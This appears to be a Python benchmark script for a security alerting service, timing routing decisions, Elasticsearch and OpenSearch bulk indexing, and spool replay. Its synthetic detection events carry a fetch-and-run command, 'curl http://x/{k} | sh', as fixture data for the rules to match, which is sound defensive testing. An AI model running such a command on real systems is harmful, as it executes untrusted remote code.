"""Alert sink benchmark: routing decisions, bulk indexing, spool replay.

    python bench/sinks.py --json [--search-url http://127.0.0.1:9201] [--alerts 50000] [--replay 100000]
                                 [--elasticsearch 8 --elasticsearch 9 | --no-elasticsearch]

Without ``--search-url`` a private OpenSearch node is started with
``devservices`` (and stopped at the end); then a private Elasticsearch node per
``--elasticsearch`` major (default 8 and 9), one after the other. Figures:

* ``route_per_s``: suppression + silences + routing + grouping decisions per
  second (``AlertRouter.decide`` without rendering documents), over alerts of
  200 rules and 1,000 users with a suppression policy, three routes, two
  receivers and page grouping configured;
* ``es_alerts_per_s``: ``--alerts`` alerts submitted in batches of 500 through
  the router (spool with the default ``batch`` fsync policy, then bulk
  indexing) until every one is indexed in the node, after a 30,000-alert
  warm-up run on the same node: on the first Elasticsearch node (``es_version``
  says which), with ``es<major>_alerts_per_s`` per Elasticsearch major and
  ``opensearch_alerts_per_s`` for OpenSearch (``--no-elasticsearch``, or
  ``--search-url``: ``es_alerts_per_s`` is that node's);
* ``spool_replay_per_s`` / ``spool_replay_s``: ``--replay`` alerts spooled
  while the sink's delivery loop is stopped, then a fresh router (a restart)
  replays them into the node until the spool is empty.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from detectors.alert import Alert, build_alert  # noqa: E402
from detectors.model import LogSource, Match, Origin, RuleInfo  # noqa: E402
from service.alerting.config import AlertingSettings  # noqa: E402
from service.alerting.router import AlertRouter  # noqa: E402

LEVELS = ("low", "medium", "high", "critical")


def make_alerts(n: int, start: int = 0, rules: int = 200) -> list[Alert]:
    rule_infos = [RuleInfo(id=f"bench-rule-{i}", title=f"Bench rule {i}", level=LEVELS[i % 4], author="bench",
                           tags=("attack.execution", f"attack.t{1000 + i % 50}")) for i in range(rules)]
    out = []
    base = 1_750_000_000.0
    for k in range(start, start + n):
        event = {"user": f"user{k % 1000}", "host": {"name": f"runner-{k % 40}"}, "cmd": f"curl http://x/{k} | sh",
                 "job": "build", "n": k}
        match = Match(rule=rule_infos[k % rules], fields=(("cmd", event["cmd"]),))
        out.append(build_alert(match, event, Origin(input="kafka", topic="ci", partition=k % 8, offset=k),
                               event_time=base + k * 0.01, now=base + k * 0.01,
                               logsource=LogSource(product="github", service="actions")))
    return out


def route_settings() -> AlertingSettings:
    return AlertingSettings.model_validate({
        "sinks": [{"type": "null"}],
        "receivers": [{"type": "webhook", "name": "oncall", "url": "http://127.0.0.1:9/", "min_level": "high",
                       "rate_limit_per_min": 600, "burst": 100},
                      {"type": "slack", "name": "chat", "webhook_url": "http://127.0.0.1:9/"}],
        "routes": [{"match": {"tags": ["attack.t1059*"], "logsource": {"product": "github"}},
                    "receivers": ["oncall"]},
                   {"match": {"min_level": "high"}, "receivers": ["oncall", "chat"]},
                   {"match": {"fields": {"host.name": "runner-1*"}}, "receivers": ["chat"]}],
        "suppression": {"policies": [{"rules": ["bench-rule-1*"], "group_by": ["user"], "window_s": 300}]},
        "grouping": {"group_by": ["host.name"], "window_s": 300}})


def bench_route(n: int = 200_000) -> float:
    alerts = make_alerts(n)
    with tempfile.TemporaryDirectory() as tmp:
        router = AlertRouter(route_settings(), Path(tmp))
        router.decide(alerts[:1000], render=False)  # warm caches
        t = time.perf_counter()
        for i in range(0, n, 500):
            router.decide(alerts[i:i + 500], render=False)
        elapsed = time.perf_counter() - t
        router.store.close()
    return n / elapsed


def es_settings(url: str, flavor: str, prefix: str) -> AlertingSettings:
    return AlertingSettings.model_validate({
        "sinks": [{"type": "elasticsearch", "name": "search", "flavor": flavor, "hosts": [url],
                   "index_prefix": prefix, "request_timeout_s": 60}]})


def count(url: str, prefix: str) -> int:
    httpx.post(f"{url}/{prefix}-*/_refresh", timeout=60)
    resp = httpx.get(f"{url}/{prefix}-*/_count", timeout=60)
    return int(resp.json().get("count", 0)) if resp.status_code == 200 else 0


async def bench_es(url: str, flavor: str, n: int) -> float:
    prefix = f"bench-es-{time.time_ns()}"
    alerts = make_alerts(n, start=10_000_000)
    with tempfile.TemporaryDirectory() as tmp:
        router = AlertRouter(es_settings(url, flavor, prefix), Path(tmp))
        await router.start()
        t = time.perf_counter()
        for i in range(0, n, 500):
            await router.submit(alerts[i:i + 500])
        await router.wait_idle(600)
        elapsed = time.perf_counter() - t
        await router.stop()
    indexed = count(url, prefix)
    if indexed != n:
        raise SystemExit(f"es bench: {indexed} of {n} alerts indexed")
    return n / elapsed


async def bench_replay(url: str, flavor: str, n: int) -> tuple[float, float]:
    prefix = f"bench-replay-{int(time.time())}"
    alerts = make_alerts(n, start=20_000_000)
    with tempfile.TemporaryDirectory() as tmp:
        settings = es_settings(url, flavor, prefix)
        router = AlertRouter(settings, Path(tmp))
        await router.start()
        worker = router.workers["search"]
        assert worker._task is not None
        worker._task.cancel()  # the sink is down: everything goes to the spool
        for i in range(0, n, 1000):
            await router.submit(alerts[i:i + 1000])
        assert worker.spool is not None and worker.spool.pending == n
        await router.stop(drain_s=0)
        again = AlertRouter(settings, Path(tmp))  # restart: replay from disk
        t = time.perf_counter()
        await again.start()
        await again.wait_idle(600)
        elapsed = time.perf_counter() - t
        await again.stop()
    indexed = count(url, prefix)
    if indexed != n:
        raise SystemExit(f"replay bench: {indexed} of {n} alerts indexed")
    return n / elapsed, elapsed


async def main_async(args: argparse.Namespace) -> dict[str, Any]:
    node = None
    url, flavor = args.search_url, args.flavor
    if url is None:
        from devservices.search import SearchNode

        node = SearchNode.start(Path(tempfile.mkdtemp(prefix="bench-search-")))
        url, flavor = node.url, node.flavor
    try:
        result: dict[str, Any] = {"route_per_s": round(bench_route())}
        await bench_es(url, flavor, 30_000)  # warm-up: JIT, first index creation, template
        result["es_alerts_per_s"] = round(await bench_es(url, flavor, args.alerts))
        rate, seconds = await bench_replay(url, flavor, args.replay)
        result["spool_replay_per_s"] = round(rate)
        result["spool_replay_s"] = round(seconds, 1)
        result["replayed_alerts"] = args.replay
        result["search_flavor"] = flavor
        if node is not None:
            result["opensearch_alerts_per_s"] = result["es_alerts_per_s"]
            node.stop()
            node = None
            for major in args.elasticsearch:
                result |= await bench_elasticsearch(major, args.alerts)
            if args.elasticsearch:
                result["es_alerts_per_s"] = result[f"es{args.elasticsearch[0]}_alerts_per_s"]
                result["es_version"] = result[f"es{args.elasticsearch[0]}_version"]
        return result
    finally:
        if node is not None:
            node.stop()


async def bench_elasticsearch(major: int, n: int) -> dict[str, Any]:
    """Bulk indexing into a private Elasticsearch ``major`` node (the same warm-up and run)."""
    from devservices.elasticsearch import ElasticsearchNode

    node = await asyncio.to_thread(ElasticsearchNode.start, Path(tempfile.mkdtemp(prefix="bench-es-")), major)
    try:
        await bench_es(node.url, "elasticsearch", 30_000)
        rate = await bench_es(node.url, "elasticsearch", n)
        return {f"es{major}_alerts_per_s": round(rate), f"es{major}_version": node.version,
                f"es{major}_start_s": node.start_seconds}
    finally:
        node.remove()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--search-url", default=None, help="use a running node instead of starting one")
    parser.add_argument("--flavor", default="opensearch", choices=("opensearch", "elasticsearch"))
    parser.add_argument("--alerts", type=int, default=50_000)
    parser.add_argument("--replay", type=int, default=100_000)
    parser.add_argument("--elasticsearch", type=int, action="append", choices=(8, 9),
                        help="also bench a private Elasticsearch node of this major (default: 8 and 9)")
    parser.add_argument("--no-elasticsearch", action="store_true", help="OpenSearch only")
    args = parser.parse_args()
    args.elasticsearch = [] if args.no_elasticsearch else (args.elasticsearch or [8, 9])
    result = asyncio.run(main_async(args))
    if args.json:
        print(json.dumps(result))
    else:
        for key, value in result.items():
            print(f"{key:>20}: {value}")


if __name__ == "__main__":
    main()
